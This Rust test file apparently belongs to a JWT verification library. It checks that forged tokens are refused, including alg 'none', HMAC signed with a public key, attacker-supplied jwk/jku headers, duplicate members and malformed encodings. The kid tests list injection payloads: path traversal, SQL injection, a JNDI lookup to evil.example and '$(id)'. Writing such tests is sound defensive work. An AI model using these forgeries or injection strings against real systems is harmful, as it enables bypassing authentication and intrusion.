//! Forged tokens. None is accepted, none causes a panic, and no part of them is repeated.

use aws_lc_rs::hmac;
use hyperfleet_auth::{MAX_TOKEN_BYTES, Refusal, RefusalKind, parse};
use proptest::prelude::*;
use serde_json::{Value, json};

use crate::support::{
    Behaviour, EC, Fixture, ISSUER, IssuerServer, Log, NOW, RSA, Signer, claims, claims_with, encode, jwks,
    splice, start,
};

fn fixture() -> Fixture {
    Fixture::new(&jwks(&[&RSA.jwk(), &EC.jwk()]))
}

#[tokio::test]
async fn none_is_refused_however_it_is_written() {
    let fixture = fixture();
    for name in ["none", "None", "NONE", "nOnE", "", " none", "none\u{0}"] {
        for kid in ["rsa", "ec", "unknown"] {
            let header = json!({ "alg": name, "kid": kid });
            let signed = EC.token_with(&header, &claims());
            assert_eq!(fixture.refusal(&signed).await, Refusal::BadAlgorithm, "{name:?}");
            assert_eq!(fixture.refusal(&splice(&signed, 2, "")).await, Refusal::BadAlgorithm, "{name:?}");
        }
    }
    // Without the last dot there is no third part.
    let bare = format!("{}.{}", encode(r#"{"alg":"none"}"#), encode(claims().to_string()));
    assert_eq!(fixture.refusal(&bare).await, Refusal::NotAToken);
}

#[tokio::test]
async fn a_public_key_is_no_secret() {
    let fixture = fixture();
    for signer in [&*RSA, &*EC] {
        for secret in signer.public_forms() {
            for (name, algorithm) in
                [("HS256", hmac::HMAC_SHA256), ("HS384", hmac::HMAC_SHA384), ("HS512", hmac::HMAC_SHA512)]
            {
                let header = json!({ "alg": name, "kid": signer.id });
                let message = format!("{}.{}", encode(header.to_string()), encode(claims().to_string()));
                let mac = hmac::sign(&hmac::Key::new(algorithm, &secret), message.as_bytes());
                let token = format!("{message}.{}", encode(mac));
                assert_eq!(fixture.refusal(&token).await, Refusal::BadAlgorithm, "{name}");

                // Nor does it help to call it something else.
                for other in ["RS256", "PS256", "ES256"] {
                    let header = json!({ "alg": other, "kid": signer.id });
                    let token = splice(&token, 0, &encode(header.to_string()));
                    assert_eq!(
                        fixture.refusal(&token).await.kind(),
                        RefusalKind::Invalid,
                        "{name} as {other}"
                    );
                }
            }
        }
    }
}

#[tokio::test]
async fn a_symmetric_key_in_the_set_verifies_nothing() {
    let secret = "a secret that is long enough for any of them, as they go";
    let oct = json!({ "kty": "oct", "k": encode(secret), "kid": "oct", "alg": "HS256" });
    let fixture = Fixture::new(&jwks(&[&oct, &EC.jwk()]));
    for header in [json!({ "alg": "HS256", "kid": "oct" }), json!({ "alg": "HS256" })] {
        let message = format!("{}.{}", encode(header.to_string()), encode(claims().to_string()));
        let mac = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, secret.as_bytes()), message.as_bytes());
        let token = format!("{message}.{}", encode(mac));
        assert_eq!(fixture.refusal(&token).await, Refusal::BadAlgorithm);
    }
}

#[tokio::test]
async fn an_algorithm_of_another_type_of_key_is_refused() {
    let fixture = fixture();
    for (signer, kid, algorithm) in [
        (&*EC, "rsa", "ES256"),
        (&*EC, "ec", "RS256"),
        (&*EC, "ec", "ES384"),
        (&*EC, "ec", "EdDSA"),
        (&*RSA, "ec", "RS256"),
        (&*RSA, "rsa", "ES256"),
        (&*RSA, "rsa", "EdDSA"),
    ] {
        let token = signer.token_with(&json!({ "alg": algorithm, "kid": kid }), &claims());
        assert_eq!(fixture.refusal(&token).await, Refusal::WrongAlgorithm, "{algorithm} with {kid}");
    }
    // The right type of key, but the signature is of another algorithm.
    let pss = RSA.token_with(&json!({ "alg": "PS256", "kid": "rsa" }), &claims());
    let renamed = splice(&pss, 0, &encode(r#"{"alg":"RS256","kid":"rsa"}"#));
    assert_eq!(fixture.refusal(&renamed).await, Refusal::BadSignature);
    for unknown in ["ES512", "ES256K", "RS1", "HS1", "Ed25519", "RSA-OAEP", "dir", "rs256"] {
        let token = RSA.token_with(&json!({ "alg": unknown, "kid": "rsa" }), &claims());
        assert_eq!(fixture.refusal(&token).await, Refusal::BadAlgorithm, "{unknown}");
    }
}

#[tokio::test]
async fn a_kid_is_a_name_and_nothing_else() {
    let fixture = fixture();
    for kid in [
        "../../../../dev/null",
        "/proc/sys/kernel/randomize_va_space",
        "file:///etc/passwd",
        "' OR '1'='1",
        "x' UNION SELECT 'key' --",
        "ec\u{0}",
        "EC",
        " ec",
        "ec ",
        "*",
        ".*",
        "",
        "0",
        "${jndi:ldap://evil.example/a}",
        "$(id)",
        "\u{65}\u{301}c",
    ] {
        let token = EC.token_with(&json!({ "alg": "ES256", "kid": kid }), &claims());
        assert_eq!(fixture.refusal(&token).await, Refusal::UnknownKey, "{kid:?}");
    }
    for kid in [json!(null), json!(0), json!(true), json!(["ec"]), json!({ "kid": "ec" })] {
        let token = EC.token_with(&json!({ "alg": "ES256", "kid": kid }), &claims());
        assert_eq!(fixture.refusal(&token).await, Refusal::BadHeader, "{kid}");
    }
}

#[tokio::test]
async fn a_changed_token_is_refused() {
    let fixture = fixture();
    for signer in [&*RSA, &*EC] {
        let token = signer.token(&claims());
        let other = signer.token(&claims_with(&json!({ "email": "eve@example.com" })));
        let parts: Vec<&str> = other.split('.').collect();
        for changed in [splice(&token, 1, parts[1]), splice(&token, 2, parts[2]), splice(&token, 2, "")] {
            assert_eq!(fixture.refusal(&changed).await, Refusal::BadSignature);
        }
        assert!(fixture.verify(&token).await.is_ok());
        // What is remembered of the good one does not help the bad one.
        assert_eq!(fixture.refusal(&splice(&token, 1, parts[1])).await, Refusal::BadSignature);
    }
}

#[tokio::test]
async fn signatures_of_zeros_or_in_another_encoding_are_refused() {
    let fixture = fixture();
    let token = EC.token(&claims());
    let zeros = encode([0; 64]);
    let der = encode([0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00]);
    for signature in [zeros, der, encode([0xff; 64]), encode([0; 63]), encode([0; 4_096])] {
        assert_eq!(fixture.refusal(&splice(&token, 2, &signature)).await, Refusal::BadSignature);
    }
    let token = RSA.token(&claims());
    for signature in [encode([0; 256]), encode([1]), encode([0xff; 256])] {
        assert_eq!(fixture.refusal(&splice(&token, 2, &signature)).await, Refusal::BadSignature);
    }
}

#[tokio::test]
async fn the_key_of_another_issuer_does_not_count() {
    let (ours, theirs) = (Signer::p256("key"), Signer::p256("key"));
    let one = IssuerServer::http(Behaviour::Keys(jwks(&[&ours.jwk()]))).await;
    let other = IssuerServer::http(Behaviour::Keys(jwks(&[&theirs.jwk()]))).await;
    let mut second = other.config();
    second.issuer_url = "https://other.example".to_owned();
    let verifier = start(&[one.config(), second], hyperfleet_auth::RefreshSchedule::default());
    let verify = async |token: &str| {
        let now = hyperfleet_core::Timestamp::from_micros(NOW * 1_000_000);
        verifier
            .verify_at(&crate::support::bearer(token), now)
            .await
            .map(|verified| verified.issuer().to_owned())
    };
    let other_claims = claims_with(&json!({ "iss": "https://other.example" }));

    assert_eq!(verify(&ours.token(&claims())).await.as_deref(), Ok(ISSUER));
    assert_eq!(verify(&theirs.token(&other_claims)).await.as_deref(), Ok("https://other.example"));
    assert_eq!(verify(&theirs.token(&claims())).await, Err(Refusal::BadSignature));
    assert_eq!(verify(&ours.token(&other_claims)).await, Err(Refusal::BadSignature));
}

#[tokio::test]
async fn keys_that_the_token_brings_along_are_never_used_nor_fetched() {
    let fixture = fixture();
    let eve = Signer::p256("eve");
    let trap = IssuerServer::http(Behaviour::Keys(jwks(&[&eve.jwk()]))).await;
    for member in [
        json!({ "jwk": eve.jwk() }),
        json!({ "jku": trap.url("/jwks") }),
        json!({ "x5u": trap.url("/certificate") }),
        json!({ "x5c": ["MIIB"] }),
        json!({ "jwk": eve.jwk(), "jku": trap.url("/jwks"), "x5u": trap.url("/"), "iss": trap.url("/") }),
    ] {
        for (kid, refused) in [("ec", Refusal::BadSignature), ("eve", Refusal::UnknownKey)] {
            let mut header = json!({ "alg": "ES256", "kid": kid });
            header.as_object_mut().unwrap().extend(member.as_object().unwrap().clone());
            assert_eq!(fixture.refusal(&eve.token_with(&header, &claims())).await, refused, "{member}");
        }
    }
    assert_eq!(trap.requests(), 0);
    // They do no harm either.
    let header = json!({ "alg": "ES256", "kid": "ec", "jku": trap.url("/jwks"), "jwk": eve.jwk() });
    assert!(fixture.verify(&EC.token_with(&header, &claims())).await.is_ok());
    assert_eq!(trap.requests(), 0);
}

#[tokio::test]
async fn critical_extensions_are_refused() {
    let fixture = fixture();
    for crit in [json!(["b64"]), json!(["exp"]), json!([]), json!(null), json!("b64")] {
        let header = json!({ "alg": "ES256", "kid": "ec", "crit": crit, "b64": false });
        assert_eq!(
            fixture.refusal(&EC.token_with(&header, &claims())).await,
            Refusal::CriticalExtension,
            "{crit}"
        );
    }
}

#[tokio::test]
async fn members_that_come_twice_are_refused_even_when_signed() {
    let fixture = fixture();
    let good = claims().to_string();
    for header in [
        r#"{"alg":"none","alg":"ES256","kid":"ec"}"#,
        r#"{"alg":"ES256","kid":"ec","kid":"ec"}"#,
        r#"{"alg":"ES256","kid":"ec","typ":"JWT","typ":"JWT"}"#,
        r#"{"alg":"ES256","\u0061lg":"ES256","kid":"ec"}"#,
    ] {
        assert_eq!(
            fixture.refusal(&EC.raw_token(header, &good, "ES256")).await,
            Refusal::BadHeader,
            "{header}"
        );
    }
    for claims in [
        format!(r#"{{"iss":"https://evil.example","iss":"{ISSUER}","exp":{}}}"#, NOW + 60),
        format!(r#"{{"iss":"{ISSUER}","exp":{},"exp":{}}}"#, NOW + 60, NOW + 60),
        format!(r#"{{"iss":"{ISSUER}","exp":{},"email":"a","email":"b"}}"#, NOW + 60),
    ] {
        let token = EC.raw_token(r#"{"alg":"ES256","kid":"ec"}"#, &claims, "ES256");
        assert_eq!(fixture.refusal(&token).await, Refusal::BadClaims, "{claims}");
    }
}

#[tokio::test]
async fn text_that_is_no_token_is_malformed() {
    let fixture = fixture();
    let token = EC.token(&claims());
    let signature = token.rsplit('.').next().unwrap();
    for broken in [
        ".".to_owned(),
        "..".to_owned(),
        "...".to_owned(),
        "a".to_owned(),
        "a.b".to_owned(),
        "a.b.c".to_owned(),
        format!("{token}."),
        format!(".{token}"),
        format!("{token}.{signature}"),
        format!("{token}.a.b"),
        format!("{token}="),
        format!("{token} "),
        format!("{token}\u{a0}"),
        splice(&token, 0, ""),
        splice(&token, 1, ""),
        splice(&token, 2, "!!!!"),
        splice(&token, 2, "AA=="),
        splice(&token, 2, "A+/A"),
        splice(&token, 1, "é"),
        splice(&token, 2, "A"),
        token.replace('.', " "),
        "\u{1F600}.\u{1F600}.\u{1F600}".to_owned(),
    ] {
        let refused = parse(&broken).unwrap_err();
        assert_eq!(refused.kind(), RefusalKind::Malformed, "{broken:?}");
        let through_the_door = fixture.verify(&broken).await;
        // Spaces around a header's value do not belong to it.
        if !broken.ends_with(' ') {
            assert_eq!(through_the_door.unwrap_err().kind(), RefusalKind::Malformed, "{broken:?}");
        }
    }
    for text in ["", "null", "7", "[]", "\"alg\"", "{", "{}x", "{\"alg\":", "\u{feff}{}"] {
        assert_eq!(fixture.refusal(&splice(&token, 0, &encode(text))).await.kind(), RefusalKind::Malformed);
        assert_eq!(fixture.refusal(&splice(&token, 1, &encode(text))).await.kind(), RefusalKind::Malformed);
    }
    for header in [json!({}), json!({ "alg": null }), json!({ "alg": 1 }), json!({ "alg": ["ES256"] })] {
        assert_eq!(fixture.refusal(&EC.token_with(&header, &claims())).await, Refusal::BadHeader);
    }
    let not_utf8 = splice(&token, 1, &encode(b"{\"iss\":\"\xff\"}"));
    assert_eq!(fixture.refusal(&not_utf8).await, Refusal::BadClaims);
    let deep = format!("{}{}", "[".repeat(6_000), "]".repeat(6_000));
    assert_eq!(fixture.refusal(&splice(&token, 1, &encode(deep))).await, Refusal::BadClaims);
}

#[tokio::test]
async fn a_token_in_base64_that_is_not_the_only_one_is_refused() {
    // 64 bytes end in two characters of which the last has four bits to spare.
    let token = EC.token(&claims());
    let alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let (start, last) = token.split_at(token.len() - 1);
    let place = alphabet.find(last).unwrap();
    let twin = format!("{start}{}", alphabet.as_bytes()[place + 1] as char);
    assert_eq!(parse(&twin).unwrap_err(), Refusal::NotAToken);
}

#[tokio::test]
async fn a_token_may_have_sixteen_kibibytes_and_no_more() {
    let fixture = fixture();
    let with_padding = |padding: usize| EC.token(&claims_with(&json!({ "padding": "x".repeat(padding) })));
    let fits = (1..).map(|n| with_padding(12_300 - n)).find(|token| token.len() <= MAX_TOKEN_BYTES).unwrap();
    assert!(fits.len() > MAX_TOKEN_BYTES - 8);
    assert!(fixture.verify(&fits).await.is_ok());

    let too_large = with_padding(12_300);
    assert!(too_large.len() > MAX_TOKEN_BYTES);
    assert_eq!(fixture.refusal(&too_large).await, Refusal::TooLarge);
    assert_eq!(parse(&too_large).unwrap_err(), Refusal::TooLarge);
    assert_eq!(fixture.refusal(&"a.".repeat(1 << 20)).await, Refusal::TooLarge);
}

#[tokio::test]
async fn no_part_of_a_token_reaches_a_log_or_an_error() {
    let log = Log::listen();
    let fixture = fixture();
    let secret = "do-not-repeat-me";
    let tokens = [
        EC.token(&claims_with(&json!({ "note": secret }))),
        EC.token(&claims_with(&json!({ "iss": secret }))),
        EC.token_with(&json!({ "alg": "ES256", "kid": secret }), &claims()),
        EC.token_with(&json!({ "alg": secret }), &claims()),
        Signer::p256("ec").token(&claims_with(&json!({ "note": secret }))),
        secret.to_owned(),
    ];
    for token in &tokens {
        let answer = fixture.verify(token).await;
        let shown = match &answer {
            Ok(verified) => format!("{verified:?}"),
            Err(refusal) => format!("{refusal:?} {refusal} {}", refusal.challenge()),
        };
        let parsed = format!("{:?}", parse(token));
        for place in [shown, parsed, log.text(), format!("{:?}", fixture.verifier)] {
            assert!(!place.contains(secret) && !place.contains(&encode(secret)[..16]), "{place}");
            assert!(token.split('.').all(|part| part.is_empty() || !place.contains(part)), "{place}");
        }
    }
    assert!(log.text().contains(ISSUER), "the log must have been heard: {}", log.text());
}

/// Text that resembles tokens in different degrees.
fn almost_tokens() -> impl Strategy<Value = String> {
    let part = prop_oneof![
        Just(encode(r#"{"alg":"ES256","kid":"ec"}"#)),
        Just(encode(claims().to_string())),
        any::<Vec<u8>>().prop_map(encode),
        "[A-Za-z0-9_-]{0,90}",
        r#"\{("alg|"exp|"iss|"kid|:|,|"|[0-9]|\[|\}){0,12}\}"#.prop_map(encode),
        any::<String>(),
    ];
    prop_oneof![any::<String>(), prop::collection::vec(part, 0..5).prop_map(|parts| parts.join("."))]
}

fn block_on<T>(future: impl Future<Output = T>) -> T {
    tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap().block_on(future)
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 500, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn no_text_panics_and_none_verifies(texts in prop::collection::vec(almost_tokens(), 20)) {
        block_on(async {
            let fixture = Fixture::new(&jwks(&[&EC.jwk()]));
            for text in &texts {
                let _ = parse(text);
                let headers = http::HeaderValue::from_bytes(text.as_bytes())
                    .map(|value| [(http::header::AUTHORIZATION, value)].into_iter().collect::<http::HeaderMap>());
                if let Ok(headers) = headers {
                    assert!(fixture.verifier.verify(&headers).await.is_err(), "{text:?}");
                }
                if !text.contains(|c: char| c.is_control() && c != '\t') {
                    assert!(fixture.verify(text).await.is_err(), "{text:?}");
                }
            }
        });
    }

    #[test]
    fn no_single_change_of_a_token_verifies(place in any::<prop::sample::Index>(), with in "[ -~]", insert: bool) {
        block_on(async {
            let fixture = Fixture::new(&jwks(&[&EC.jwk()]));
            let token = EC.token(&claims());
            let place = place.index(token.len());
            let changed = format!("{}{with}{}", &token[..place], &token[if insert { place } else { place + 1 }..]);
            let same = changed == token || (insert && changed.trim() == token);
            assert_eq!(fixture.verify(&changed).await.is_ok(), same, "{changed}");
        });
    }
}

#[test]
fn a_value_is_only_as_deep_as_the_parser_allows() {
    let nested = |levels: usize| {
        let claims: Value = (0..levels).fold(json!(1), |inner, _| json!({ "a": inner }));
        let text = format!(r#"{{"exp":{},"deep":{claims}}}"#, NOW + 60);
        format!("{}.{}.", encode(r#"{"alg":"ES256"}"#), encode(text))
    };
    assert!(parse(&nested(100)).is_ok());
    assert_eq!(parse(&nested(200)).unwrap_err(), Refusal::BadClaims);
}
